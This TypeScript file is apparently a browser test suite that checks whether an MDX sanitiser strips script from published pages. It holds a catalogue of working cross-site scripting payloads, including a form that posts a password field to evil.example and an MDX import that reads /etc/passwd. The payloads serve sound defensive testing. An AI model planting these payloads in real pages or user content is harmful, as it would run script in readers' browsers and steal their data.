/**
 * Markup that attacks a reader's browser: script in every disguise the sanitiser must see
 * through, in the body and in the front matter. Each must be published with nothing left
 * that runs, and the text around it kept. The corpus check has no browser to run them in,
 * so only the browser suite writes these.
 */
import { mdxFile, type FrontMatter } from '../mdx';

import { frontMatter, type HostileCaseDefinition } from './case';

/** Every payload sets this marker or opens a dialog if it ever runs. */
export const RUN = 'window.__pwned=1;alert(1)';

interface Attack {
  id: string;
  body: string;
  keeps: string;
  absentFromBody?: string[];
  absentFromPage?: string[];
  /** Front matter fields over the writer's, and YAML written after them as it stands. */
  fields?: FrontMatter;
  yaml?: string;
}

const BODY_ATTACKS: Attack[] = [
  {
    id: 'script-element',
    body: `Before.\n\n<script>${RUN}</script>\n\nAfter the script.`,
    keeps: 'After the script.',
    absentFromBody: ['__pwned'],
  },
  {
    id: 'img-onerror',
    body: `<p>Picture: <img src="x.jpg" onerror="${RUN}"> caption kept.</p>`,
    keeps: 'caption kept.',
  },
  {
    id: 'svg-onload',
    body: `<p>Logo <svg onload="${RUN}"><circle r="4"/></svg> text kept.</p>`,
    keeps: 'text kept.',
    absentFromBody: ['<svg'],
  },
  {
    id: 'svg-script',
    body: `<svg><script>${RUN}</script></svg>\n\nVector text kept.`,
    keeps: 'Vector text kept.',
    absentFromBody: ['__pwned'],
  },
  {
    id: 'javascript-link',
    body: `<p>Read <a href="javascript:${RUN}">the report</a> now.</p>`,
    keeps: 'the report',
    absentFromBody: ['javascript:'],
  },
  {
    id: 'obfuscated-javascript-link',
    body: `<p><a href="jav&#x09;ascript:${RUN}">tabbed</a> and <a href=" JaVaScRiPt:${RUN}">mixed case</a>.</p>`,
    keeps: 'mixed case',
    absentFromBody: ['ascript:'],
  },
  {
    id: 'markdown-javascript-link',
    body: `Read [the study](javascript:${RUN}) today.`,
    keeps: 'the study',
    absentFromBody: ['javascript:'],
  },
  {
    id: 'data-url-link',
    body: `<p><a href="data:text/html,<script>${RUN}</script>">data link</a> kept.</p>`,
    keeps: 'data link',
    absentFromBody: ['data:text/html'],
  },
  {
    id: 'vbscript-link',
    body: `<p><a href="vbscript:msgbox(1)">legacy</a> kept.</p>`,
    keeps: 'legacy',
    absentFromBody: ['vbscript:'],
  },
  {
    id: 'iframe',
    body: `<iframe src="javascript:${RUN}"></iframe>\n<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>\n\nFramed text kept.`,
    keeps: 'Framed text kept.',
    absentFromBody: ['<iframe', 'srcdoc'],
  },
  {
    id: 'object-embed',
    body: `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">\n\nPlugin text kept.`,
    keeps: 'Plugin text kept.',
    absentFromBody: ['<object', '<embed'],
  },
  {
    id: 'meta-refresh',
    body: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">\n\nRefresh text kept.`,
    keeps: 'Refresh text kept.',
    absentFromBody: ['http-equiv="refresh"', 'javascript:'],
  },
  {
    id: 'base-href',
    body: `<base href="https://evil.example/">\n\nBase text kept.`,
    keeps: 'Base text kept.',
    absentFromBody: ['evil.example'],
  },
  {
    id: 'form',
    body: `<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:${RUN}">Send</button></form>\n\nForm text kept.`,
    keeps: 'Form text kept.',
    absentFromBody: ['<form', '<input', 'formaction'],
  },
  {
    id: 'style',
    body: `<style>body{background:url("javascript:${RUN}")}</style>\n\n<p style="background:url(javascript:alert(1))">Styled text kept.</p>`,
    keeps: 'Styled text kept.',
    absentFromBody: ['<style', 'url(javascript'],
  },
  {
    id: 'event-handlers',
    body: `<details open ontoggle="${RUN}"><summary>More</summary>Toggle text kept.</details>\n<p onmouseover="${RUN}" onclick="${RUN}">Hover text kept.</p>\n<input autofocus onfocus="${RUN}">`,
    keeps: 'Hover text kept.',
  },
  {
    id: 'media-onerror',
    body: `<video><source src="x.mp4" onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>\n\nMedia text kept.`,
    keeps: 'Media text kept.',
    absentFromBody: ['<video', '<audio'],
  },
  {
    id: 'mutation-xss',
    // An unclosed <style> makes the rest of the body its text, as in a browser: prose goes first.
    body: `Mutation text kept.\n\n<noscript><p title="</noscript><img src=x onerror=${RUN}>">\n\n<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
    keeps: 'Mutation text kept.',
  },
  {
    id: 'template-and-textarea',
    body: `<template><script>${RUN}</script></template><textarea></textarea><img src=x onerror="${RUN}"></textarea>\n\nTemplate text kept.`,
    keeps: 'Template text kept.',
    absentFromBody: ['<template'],
  },
  {
    id: 'dom-clobbering',
    body: `<p><a id="location" name="self" href="/news">Clobbering text kept.</a><img name="__next_f" src="x.jpg"></p>`,
    keeps: 'Clobbering text kept.',
    absentFromBody: ['id="location"', 'name="__next_f"', 'name="self"'],
  },
  {
    id: 'link-and-import',
    body: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/x.html">\n\nLink text kept.`,
    keeps: 'Link text kept.',
    absentFromBody: ['<link rel="import"', 'evil.example'],
  },
  {
    id: 'mdx-esm-and-expressions',
    body: `import fs from 'node:fs'\n\nexport const stolen = fs.readFileSync('/etc/passwd', 'utf8')\n\n{(() => { ${RUN} })()}\n\nPrice {sharply} higher.\n\n<Widget onLoad={() => alert(1)} />`,
    keeps: 'Price {sharply} higher.',
    absentFromBody: ['root:x:0:0'],
  },
];

/** Front matter attacks: the page renders them escaped, and nothing in the YAML runs. */
const FRONT_MATTER_ATTACKS: Attack[] = [
  {
    id: 'title-markup',
    fields: { description: `</title><script>${RUN}</script>` },
    body: 'Title markup text kept.',
    keeps: 'Title markup text kept.',
    absentFromPage: ['</title><script>'],
  },
  {
    id: 'javascript-og-url',
    fields: { openGraphMetaData: { url: 'javascript:alert(1)', image: 'javascript:alert(1)' } },
    body: 'Open Graph text kept.',
    keeps: 'Open Graph text kept.',
    absentFromPage: ['javascript:'],
  },
  {
    id: 'yaml-js-tag',
    // The tagged line stands in for the writer's own tags.
    fields: { tags: undefined },
    yaml: 'tags: !!js/function "function () { globalThis.__pwned = 1 }"\n',
    body: 'Tagged text kept.',
    keeps: 'Tagged text kept.',
  },
];

function published({ body, fields, yaml, ...checks }: Attack): HostileCaseDefinition {
  return {
    ...checks,
    expect: 'published',
    why: `markup that must not run in a reader's browser; "${checks.keeps}" stays on the page`,
    text: (writer) =>
      mdxFile(frontMatter(writer, `Hostile: ${checks.id}`, fields, yaml), `${body}\n`),
  };
}

export const BROWSER_CASES: readonly HostileCaseDefinition[] = [
  ...BODY_ATTACKS,
  ...FRONT_MATTER_ATTACKS,
].map(published);
